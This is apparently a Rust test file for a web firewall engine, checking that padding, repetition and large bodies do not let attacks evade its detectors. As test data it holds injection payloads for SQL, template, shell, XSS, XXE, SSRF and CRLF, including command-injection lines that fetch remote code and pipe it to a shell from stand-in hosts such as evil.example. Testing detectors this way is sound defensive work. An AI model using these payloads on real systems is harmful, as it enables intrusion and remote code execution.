//! Tests of padding: spaces and empty lines around a payload do not disable a detector.

#![expect(clippy::unwrap_used, reason = "a test fails by panicking")]

use engine::Engine;
use proptest::{prelude::*, sample::Index};
use shared::{InspectRequest, Sensitivity, score};
use std::sync::LazyLock;

/// A payload of each detector with rules that are disabled in documents.
const PAYLOADS: &[(&str, &str)] = &[
    ("ssti", "{{7*7}}"),
    ("ssti", "${7*7}"),
    ("ssti", "{{''.__class__.__mro__}}"),
    ("rce", ";cat /etc/passwd"),
    ("rce", "$(id)"),
    ("rce", "__proto__[admin]=1"),
    ("rce", "<?php system('id'); ?>"),
    ("rce", "system('id');"),
    ("rce", "import os; os.system('id')"),
    ("ptrav", "/etc/passwd"),
    ("ptrav", "../../../../etc/passwd"),
    ("ptrav", "../../../x"),
    ("sqli", "1 or 1=1"),
    ("sqli", "1' union select 1,2 -- "),
    ("sqli", "select a, b from information_schema.tables"),
    ("xss", "<script>alert(1)</script>"),
    ("xss", "<img src=x onerror=alert(1)>"),
    ("xss", "<marquee>x</marquee>"),
    ("xss", "'-alert(1)-'"),
    ("xxe", "<!DOCTYPE a [%b;]>"),
    ("nosqli", "';while(true){};'"),
];

/// Padding, percent-encoded.
const PADDINGS: &[&str] =
    &["%0a", "%0d%0a", "%20", "%09", "%0d", "%20%0a", "%0a%0a%0a%09", "a%0a", "-%20%0a"];

#[derive(Debug, Clone, Copy)]
enum Part {
    Query,
    Cookie,
    Header,
    Path,
    Form,
    /// A field for posts.
    Post,
}

impl Part {
    const ALL: [Self; 5] = [Self::Query, Self::Cookie, Self::Header, Self::Path, Self::Form];

    fn request(self, value: &str) -> InspectRequest {
        let (mut path, mut query, mut body) = ("/items".to_owned(), String::new(), None);
        let mut headers = vec![("content-type", "application/x-www-form-urlencoded".to_owned())];
        match self {
            Self::Query => query = format!("x={value}"),
            Self::Cookie => headers.push(("cookie", format!("a=1; x={value}"))),
            Self::Header => headers.push(("x-forwarded-host", value.to_owned())),
            Self::Path => path = format!("/items/{value}"),
            Self::Form => body = Some(format!("a=1&x={value}").into_bytes()),
            Self::Post => body = Some(format!("a=1&content={value}").into_bytes()),
        }
        serde_json::from_value(serde_json::json!({
            "client_ip": "::1", "method": "POST", "host": "shop.example", "path": path, "query": query,
            "headers": headers, "body": body.map(shared::Body),
        }))
        .unwrap()
    }
}

fn escaped(text: &str) -> String {
    let byte = |it: u8| match it {
        b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'.' | b'-' | b'_' => char::from(it).to_string(),
        _ => format!("%{it:02X}"),
    };
    text.bytes().map(byte).collect()
}

/// The attack types of a request that is an attack at the sensitivity `balanced`.
fn types(engine: &Engine, request: &InspectRequest) -> Vec<String> {
    let found = recorded(engine, request);
    if score::of_request(&engine.inspect(request).findings) < Sensitivity::Balanced.threshold() {
        return Vec::new();
    }
    found
}

/// The types of all findings, also those that are only suspicious.
fn recorded(engine: &Engine, request: &InspectRequest) -> Vec<String> {
    engine.inspect(request).findings.iter().map(|it| it.attack_type.as_str().to_owned()).collect()
}

#[test]
fn padding_does_not_hide_an_attack() {
    let engine = Engine::new();
    let (mut inspected, mut missed) = (0, Vec::new());
    for (attack_type, payload) in PAYLOADS {
        let payload = escaped(payload);
        for part in Part::ALL {
            let is_found =
                |value: &str| types(&engine, &part.request(value)).iter().any(|it| it == attack_type);
            if !is_found(&payload) {
                assert!(!matches!(part, Part::Query | Part::Form), "{payload} is not found without padding");
                continue;
            }
            inspected += 1;
            for padding in PADDINGS {
                let padding = padding.repeat(60);
                let around = [format!("{padding}{payload}"), format!("{payload}{padding}")];
                missed
                    .extend(around.into_iter().filter(|it| !is_found(it)).map(|it| format!("{part:?} {it}")));
            }
        }
    }
    assert!(missed.is_empty(), "{} missed:\n{}", missed.len(), missed.join("\n"));
    // Some payloads are no attacks in a cookie, a header or a path; fewer would be a regression.
    assert_eq!(inspected, 105, "pairs of a payload and a part in which it is an attack");
}

#[test]
fn what_looks_like_a_comment_does_not_hide_a_command() {
    let engine = Engine::new();
    for payload in [";cat /etc/passwd", "`cat /etc/passwd`", "$(curl http://a.example/x|sh)", "$(sleep 10)"] {
        for padding in [" # ", "a # ", "x\n# ", "photo #1 "] {
            for part in [Part::Query, Part::Form, Part::Cookie] {
                let value = escaped(&format!("{}{payload}", padding.repeat(20)));
                assert!(
                    types(&engine, &part.request(&value)).contains(&"rce".to_owned()),
                    "{part:?} {value}"
                );
            }
        }
    }
}

/// Attacks in parts, and what may be repeated between them without a change of their meaning.
const REPEATABLE: &[(&str, &[&str], &[&str])] = &[
    ("ssti", &["{{", "7", "*", "7", "}}"], &[" ", "\n", "\t", "\r\n", "\u{a0}"]),
    ("ssti", &["{{", "(7)*(7)", "}}"], &["(", ")", " ", "-"]),
    ("ssti", &["{{(7)*(7)", "}}"], &["|e", " ", "|join(',')"]),
    ("ssti", &["{{", "config", "}}"], &[" ", "\n", "\r\n"]),
    ("ssti", &["", "{{7*7}}", ""], &["{{a}}", "${a}", "{b}", "<%c%>"]),
    ("ssti", &["", "${7*7}"], &["{{a ", "{", "(", "<"]),
    ("rce", &[";", "cat", " /etc/passwd"], &[" ", "\t"]),
    ("rce", &[";", "cat /etc/passwd"], &["env ", "nice ", "exec ", "env -i ", "a=b ", "</dev/null "]),
    ("rce", &["", ";cat /etc/passwd", ""], &[" # ", "a # ", "word ", " one two ", " '' ", " - "]),
    ("rce", &["", "; wget http://a.example/x", ""], &[" a", " some words", " \"\""]),
    ("rce", &["", " || curl a.example/x"], &["word ", " one two ", " # "]),
    ("rce", &["", " ; curl 192.0.2.4|sh"], &["word ", " one two "]),
    ("rce", &["", "$(nslookup a.example)", ""], &["word ", "one two ", " # "]),
    ("rce", &["; id", ""], &["\0", " ", "\n"]),
    ("sqli", &["' or ", "1=1-- "], &["not ", "~", "- ", "+ ", "!", " ", "/**/"]),
    (
        "sqli",
        &["' or 1", "=1-- "],
        &["+0", "*1", " ", "::int", " collate x", "::char(9) collate a.b", " isnull"],
    ),
    ("nosqli", &["';", "while(true){};'"], &[";", " ", "\n"]),
    ("ssrf", &["ht", "tp://127.0.0.1/"], &["\t", "\n", "\r\n"]),
    ("ssrf", &["http://", "x@169.254.169.254/"], &["a", "a:", "-"]),
    ("ssrf", &["http:/", "/127.0.0.1/", ""], &["/", "\t"]),
    ("ssrf", &["http://127.0", ".0.1/"], &["\u{2060}", "\u{fe0f}", "\u{ad}"]),
    ("crlf", &["en\r\nSet-Cookie: a=b", ""], &["\n", "\r\n", " "]),
    ("crlf", &["en", "\r\nSet-Cookie: a=b"], &["a", " "]),
    ("crlf", &["en\r\n", "Set-Cookie: a=b"], &["X-Foo: 1\r\n", "A: b\n"]),
];

/// Keeps a case fast: a long unit is repeated less often.
const MAX_PADDING: usize = 40_000;

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]
    /// Limits of detectors are not reached silently.
    #[test]
    fn repetition_hides_no_attack(
        (attack_type, parts, units) in proptest::sample::select(REPEATABLE),
        boundary in any::<Index>(),
        unit in any::<Index>(),
        count in prop_oneof![0..40_usize, 0..=20_000_usize],
    ) {
        static ENGINE: LazyLock<Engine> = LazyLock::new(Engine::new);
        let (boundary, unit) = (1 + boundary.index(parts.len() - 1), units[unit.index(units.len())]);
        let count = count.min(MAX_PADDING / unit.len());
        let (before, after) = parts.split_at(boundary);
        let value = [&before.concat(), &*unit.repeat(count), &after.concat()].concat();
        let found = types(&ENGINE, &Part::Form.request(&escaped(&value)));
        let is_reported = found.iter().any(|it| it == attack_type || it == "overlimit_res");
        prop_assert!(is_reported, "{count} of {unit:?} at {boundary} of {parts:?}: {found:?}");
    }
}

/// A long text that quotes code.
fn post() -> String {
    let line = "In this part of the post we look at what a template is and where it is filled in.\n";
    [&line.repeat(5), "A page that prints {{7*7}} computes, and import os; os.system('id') runs.\n", line]
        .concat()
}

#[test]
fn a_field_for_posts_quotes_code() {
    let engine = Engine::new();
    assert_eq!(types(&engine, &Part::Post.request(&escaped(&post()))), [""; 0]);
}

#[test]
fn a_post_in_another_field_is_a_value() {
    let engine = Engine::new();
    for part in [Part::Query, Part::Cookie, Part::Path, Part::Form] {
        assert_ne!(types(&engine, &part.request(&escaped(&post()))), [""; 0], "{part:?}");
    }
}

#[test]
fn a_value_cached_for_bodies_is_inspected_in_a_query() {
    let engine = Engine::new();
    let text = format!("{}{{{{7*7}}}}", "ab cd ef gh ij kl mn op qr st\n".repeat(6));
    assert!(text.len() < 512, "the engine caches short values");
    let value = escaped(&text);
    assert_eq!(types(&engine, &Part::Post.request(&value)), [""; 0]);
    assert_eq!(types(&engine, &Part::Query.request(&value)), ["ssti"]);
}

#[test]
fn a_certain_attack_in_a_post_is_suspicious() {
    let engine = Engine::new();
    let attacks = [
        "{{''.__class__.__mro__}}",
        "../../../../../../x",
        "<script>alert(1)</script>",
        "x; cat /etc/passwd",
    ];
    for attack in attacks {
        let value = escaped(&format!("{}{attack}\n", post().replace("{{7*7}}", "")));
        assert_ne!(recorded(&engine, &Part::Post.request(&value)), [""; 0], "{attack}");
    }
}

#[test]
fn padding_takes_no_budget_from_an_attack_after_it() {
    let form = |padding: &str| (FORM, format!("{}q={}", padding.repeat(100_000), "%27+or+1%3D1--"));
    let json = |padding: &str| (JSON, format!("{{{}\"q\":\"{ATTACK}\"}}", padding.repeat(100_000)));
    for (content_type, body) in [
        form("&"),
        form("a=&"),
        form("a=1&"),
        form("a=1&b=2&c=&"),
        json("\"a\":1,"),
        json("\"a\":\"\",\"b\":null,"),
        (JSON, format!("[{}\"{ATTACK}\"]", "\"\",".repeat(100_000))),
    ] {
        assert!(is_blocked(&with_body(content_type, &body)), "{}", &body[..40]);
    }
}

#[test]
fn repeated_values_take_no_budget_from_an_attack_after_them() {
    const COUNT: usize = 210_000;
    let json = |item: &str| (JSON, format!("[{}\"{ATTACK}\"]", item.repeat(COUNT)));
    let member = |item: &str| (JSON, format!("{{{}\"q\":\"{ATTACK}\"}}", item.repeat(COUNT)));
    let xml =
        |item: &str| (XML, format!("<?xml version=\"1.0\"?><a>{}<q>{ATTACK}</q></a>", item.repeat(COUNT)));
    let yaml = |item: &str| (YAML, format!("{}q: \"{ATTACK}\"\n", item.repeat(COUNT)));
    let part = "--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1\r\n".repeat(60_000);
    let last = format!("--b\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n{ATTACK}\r\n--b--");
    for (content_type, body) in [
        json("\"a\","),
        json(&format!("\"{}\",", "a".repeat(65))),
        json("\"\",0,null,"),
        json("[\"a\"],"),
        json("{\"a\":\"b\"},"),
        json("{\"a\":[\"b\",\"\",{\"c\":\"d\"}]},"),
        member("\"a\":\"b\","),
        member("\"a\":[\"b\",1],"),
        xml("<b>x</b>"),
        xml("<b/>"),
        xml("<b c=\"d\" e=\"\"/>"),
        xml("<b c='d'><e>f</e>g<!--h--></b>"),
        xml("<!--x--><?p x?>"),
        yaml("- a\n"),
        yaml("a: b\n"),
        (MULTIPART, part + &last),
    ] {
        assert!(is_blocked(&with_body(content_type, &body)), "{}", &body[..60]);
    }
}

#[test]
fn repeated_cookies_take_no_budget_from_an_attack_after_them() {
    let mut request = Part::Query.request("1");
    request.headers.push(("cookie".to_owned(), "a=1; b=2; ".repeat(105_000) + "q=%27%20or%201%3D1--"));
    assert!(is_blocked(&request));
}

#[test]
fn different_values_exhaust_the_budget_and_are_reported() {
    let items = |item: fn(usize) -> String| (0..210_000).map(item).collect::<String>();
    for (content_type, body) in [
        (JSON, format!("[{}\"{ATTACK}\"]", items(|number| format!("\"a{number}\",")))),
        (XML, format!("<a>{}<q>{ATTACK}</q></a>", items(|number| format!("<b>{number}x</b>")))),
    ] {
        assert_eq!(recorded(&Engine::new(), &with_body(content_type, &body)), ["overlimit_res"]);
    }
}

#[test]
fn words_and_letters_before_a_command_do_not_hide_it() {
    for padding in ["word ", "a", " ", "x y\n"] {
        for bytes in [100, 40_000, 262_144, 2_300_000] {
            let padding = padding.repeat(bytes / padding.len());
            let body = format!("{{\"x\":\"{}; cat /etc/passwd\"}}", padding.replace('\n', "\\n"));
            assert!(
                is_blocked(&with_body(JSON, &body)),
                "{bytes} bytes of {:?}",
                &padding[..2.min(padding.len())]
            );
        }
    }
}

#[test]
fn control_bytes_do_not_hide_an_attack() {
    for padding in ["%00", "%01", "%02", "%0e", "%1f", "%01%01%01a"] {
        let padding = padding.repeat(1_100);
        for value in [format!("{padding}%27+or+1%3D1--"), format!("%27+or+1%3D1--+{padding}")] {
            for part in [Part::Query, Part::Form] {
                assert!(is_blocked(&part.request(&value)), "{part:?} {}", &value[..30]);
            }
        }
    }
    for padding in ["\x0c", "\x0b", "\x01"] {
        let body = padding.repeat(64) + "{\"q\":\"<script>alert(1)</script>\"}";
        assert!(is_blocked(&with_body(JSON, &body)), "{padding:?}");
    }
}

#[test]
fn quotes_that_take_long_to_analyze_are_reported() {
    for padding in ["'\n", "'\"`", "'||'"] {
        let body = format!("a={}", escaped(padding).repeat(3_000_000 / padding.len()));
        assert_eq!(recorded(&Engine::new(), &with_body(FORM, &body)), ["overlimit_res"], "{padding:?}");
    }
    // A table of 1 MB with a letter in each cell.
    let body = "\"a\",".repeat(250_000);
    assert_eq!(recorded(&Engine::new(), &with_body("text/csv", &body)), [""; 0]);
}

#[test]
fn texts_that_repeat_a_long_entity_are_a_bomb() {
    let texts = (0..100_000).fold(String::new(), |texts, number| texts + &format!("<b>{number}&x;</b>"));
    let body = format!("<!DOCTYPE a [<!ENTITY x \"{}\">]><a>{texts}</a>", "x".repeat(16_000));
    assert!(types(&Engine::new(), &with_body(XML, &body)).contains(&"data_bomb".to_owned()));
}

#[test]
fn a_fifth_content_coding_is_reported() {
    let mut request = with_body(FORM, "a=1");
    request.headers.push(("content-encoding".to_owned(), ["br"; 5].join(",")));
    assert!(recorded(&Engine::new(), &request).contains(&"overlimit_res".to_owned()));
}

const FORM: &str = "application/x-www-form-urlencoded";
const JSON: &str = "application/json";
const XML: &str = "application/xml";
const YAML: &str = "application/yaml";
const MULTIPART: &str = "multipart/form-data; boundary=b";
const ATTACK: &str = "' or 1=1--";

fn with_body(content_type: &str, body: &str) -> InspectRequest {
    let mut request = Part::Form.request("1");
    request.headers = vec![("content-type".to_owned(), content_type.to_owned())];
    request.body = Some(shared::Body(body.as_bytes().to_vec()));
    request
}

fn is_blocked(request: &InspectRequest) -> bool {
    let findings = Engine::new().inspect(request).findings;
    score::of_request(&findings) >= Sensitivity::Balanced.threshold()
}

#[test]
fn bytes_and_marks_before_an_attack_are_no_noise() {
    let marks = escaped("!#%,./:=?@[]^_~-+*").repeat(3);
    let engine = Engine::new();
    let mut missed = Vec::new();
    for padding in [&*"%0b".repeat(64), &"%01%02%03%04".repeat(20), &"%80%81%fe".repeat(30), &marks] {
        for payload in ["$(curl http://evil.example/x|sh)", ";id;", "$(id)", "{{7*7}}", "'||'1"] {
            for part in [Part::Query, Part::Form, Part::Cookie] {
                let is_found = |padding: &str| {
                    let request = part.request(&format!("{padding}{}", escaped(payload)));
                    score::of_request(&engine.inspect(&request).findings) >= Sensitivity::Balanced.threshold()
                };
                if is_found("") && !is_found(padding) {
                    missed.push(format!("{part:?} {payload} after {}", &padding[..12]));
                }
            }
        }
    }
    assert!(missed.is_empty(), "{} missed:\n{}", missed.len(), missed.join("\n"));
}

#[test]
fn random_values_are_benign() {
    const COUNT: usize = 3_000;
    let engine = Engine::new();
    let mut state = 88_172_645_463_325_252_u64;
    let mut next = |limit: u64| {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        (state >> 11) % limit
    };
    for (first, kinds) in [(0, 256), (33, 94)] {
        let is_blocked = |_: &usize| {
            let length = 64 + next(400);
            let value: String =
                (0..length).fold(String::new(), |text, _| text + &format!("%{:02X}", first + next(kinds)));
            let findings = engine.inspect(&Part::Query.request(&value)).findings;
            score::of_request(&findings) >= Sensitivity::Balanced.threshold()
        };
        let blocked = (0..COUNT).filter(is_blocked).count();
        assert!(blocked * 1_000 <= COUNT * 5, "{blocked} of {COUNT} values of {kinds} bytes");
    }
}
